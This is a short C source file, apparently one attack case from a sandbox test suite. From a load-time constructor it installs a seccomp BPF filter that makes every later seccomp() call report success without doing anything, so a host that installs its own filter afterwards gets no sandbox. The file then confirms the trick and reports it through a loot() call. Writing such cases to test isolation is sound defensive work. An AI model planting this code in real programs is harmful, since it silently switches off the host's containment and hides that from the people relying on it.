/* Installs a filter of its own from a static constructor, which answers to the host's seccomp() that all went
   well. Were the host's filter installed after this, it would not be there. */
#define ATTACK_AT_LOAD
#include "../attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>

static void attack(void) {
    struct sock_filter rules[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {4, rules};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
    /* From here on even nonsense is said to have succeeded. */
    if (syscall(SYS_seccomp, 4711, 4711, NULL) == 0)
        loot("seccomp() lies", 14);
}
